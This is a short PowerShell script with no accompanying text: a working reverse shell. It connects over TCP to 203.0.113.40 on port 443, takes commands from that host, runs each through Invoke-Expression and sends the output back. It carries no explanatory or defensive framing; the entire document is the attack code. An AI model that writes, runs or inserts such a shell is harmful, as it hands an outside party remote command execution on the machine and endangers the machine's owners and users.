$c = New-Object System.Net.Sockets.TCPClient('203.0.113.40', 443)
$s = $c.GetStream()
[byte[]]$buf = 0..65535 | % { 0 }
while (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {
  $cmd = (New-Object Text.ASCIIEncoding).GetString($buf, 0, $n)
  $out = (iex $cmd 2>&1 | Out-String)
  $b = ([Text.Encoding]::ASCII).GetBytes($out)
  $s.Write($b, 0, $b.Length)
}
